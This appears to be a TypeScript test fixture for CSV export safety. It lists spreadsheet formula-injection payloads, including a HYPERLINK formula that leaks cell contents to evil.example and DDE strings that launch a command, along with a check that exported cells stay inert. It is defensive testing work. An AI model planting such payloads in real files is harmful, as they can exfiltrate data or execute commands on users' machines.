// Cell text a spreadsheet would run as a formula, for the CSV export tests: each must come out
// of every CSV writer as inert text.

/** Formula-injection payloads: a link, a DDE command, a function, arithmetic. */
export const hostileCells = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+9)*cmd|" /C calc"!A0',
  '-2+3',
] as const;

/** True when `cell` (as read back from the CSV) would not start a formula. */
export function isInert(cell: string): boolean {
  return !/^[=+\-@\t\r]/.test(cell) || /^[+-]?\d+(\.\d+)?$/.test(cell);
}
